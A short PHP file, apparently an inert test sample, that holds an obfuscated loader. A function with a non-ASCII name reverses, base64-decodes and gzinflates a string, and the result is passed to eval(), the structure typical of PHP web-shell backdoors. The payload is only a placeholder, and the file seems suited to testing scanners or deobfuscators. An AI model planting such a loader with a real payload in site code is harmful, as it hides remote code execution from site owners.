<?php
// sample: the decoding helper is called by its non-ASCII name, not through a variable (inert test text)
function Æ—åŒ»¢ŸÙ($ÔŽ£ù¶Á•){ $â“ÁŸ·Šò¬=strrev($ÔŽ£ù¶Á•); return gzinflate(base64_decode($â“ÁŸ·Šò¬)); }
$§ôÎ–¹…à = '=AAAAAAAAAAAAAAAA';
eval(Æ—åŒ»¢ŸÙ($§ôÎ–¹…à));
